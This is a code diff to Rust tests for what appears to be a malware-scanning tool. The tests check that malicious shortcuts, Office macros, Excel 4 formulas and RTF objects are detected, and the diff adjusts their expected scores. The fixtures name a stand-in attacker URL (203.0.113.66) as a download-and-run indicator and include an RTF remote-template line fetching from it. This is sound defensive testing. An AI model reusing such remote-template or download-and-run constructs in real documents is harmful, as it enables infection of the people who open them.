@@ -72,7 +72,7 @@ fn a_shortcut_with_an_encoded_command_is_taken_apart() {
     check(
         "Invoice.lnk",
         &link,
-        &[("shortcut-runs-interpreter", 650), ("script-downloads-and-runs", 600)],
+        &[("shortcut-runs-interpreter", 600), ("script-downloads-and-runs", 600)],
         &["command-1.ps1"],
         &["http://203.0.113.66/a.ps1"],
     );
@@ -232,7 +232,7 @@ fn macros_of_old_and_new_documents_are_read() {
         let analysis = check(
             name,
             &bytes,
-            &[("document-active-content", 250), ("document-macro-runs", 700)],
+            &[("document-active-content", 250), ("document-macro-runs", 600)],
             &children,
             &["http://203.0.113.66/a"],
         );
@@ -294,7 +294,7 @@ fn formulas_of_excel_4_macros_are_read() {
     check(
         "a.xls",
         &bytes,
-        &[("document-active-content", 250), ("document-macro-runs", 700)],
+        &[("document-active-content", 250), ("document-macro-runs", 600)],
         &[],
         &["http://203.0.113.66/a"],
     );
@@ -327,7 +327,7 @@ fn objects_of_rich_text_are_artifacts() {
     );
     let equation = [&[0; 33][..], &[10, 1, 8, 0x5a, 0x5a], &[b'a'; 60]].concat();
     let bytes = rich_text::document("x", &[rich_text::ole1("Equation.3", &equation)], false);
-    check("a.doc", &bytes, &[("document-active-content", 750)], &["object 1"], &[]);
+    check("a.doc", &bytes, &[("document-active-content", 600)], &["object 1"], &[]);
     let template = b"{\\rtf1{\\*\\template http://203.0.113.66/a.dotm}text}";
     check(
         "a.rtf",
@@ -390,7 +390,9 @@ fn files_in_notebooks_come_out_with_their_names() {
 #[test]
 fn cut_and_flipped_samples_keep_the_promises() {
     let names = ["shortcut", "script", "old_office", "rich_document", "disc", "notebook"];
-    let targets = watchfire_testkit::fuzz::TARGETS.iter().filter(|target| names.contains(&target.name));
+    let targets = watchfire_testkit::fuzz::TARGETS
+        .iter()
+        .filter(|target| names.contains(&target.name));
     let mut tried = 0;
     for target in targets {
         for seed in (target.seeds)() {
